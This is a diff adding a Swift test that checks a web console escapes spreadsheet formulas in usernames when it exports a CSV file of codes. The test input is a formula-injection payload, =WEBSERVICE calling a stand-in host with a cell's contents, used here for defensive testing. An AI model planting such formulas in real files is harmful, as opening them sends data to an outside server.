@@ -64,6 +64,19 @@ import WebMessages
     #expect(actors == ["administrator alice"])
   }
 
+  @Test func `an account whose name is a formula is no formula in the file with the codes`() async throws {
+    let (browser, _) = try await server.signedIn("alice", .helpdesk)
+    let csrf = try await browser.csrf()
+    let name = #"=WEBSERVICE("http://a.test/?"&C2)"#
+    let list = "username\n\"\(name.replacing("\"", with: "\"\""))\"\n@bob\n"
+    let answer = await browser.upload(Self.issue, form(list, csrf: csrf))
+    let cells = try ConsoleBrowser.text(answer).split(separator: "\n").map {
+      try CSVLine(parsing: String($0)).fields[0]
+    }
+    #expect(cells == ["username", "'" + name, "'@bob"])
+    #expect(try payloads(answer).map(\.username) == [name, "@bob"])
+  }
+
   @Test func `the codes come as sheets where that was asked for, in the language of the sheets`() async throws {
     let (browser, _) = try await server.signedIn("alice", .helpdesk)
     let csrf = try await browser.csrf()
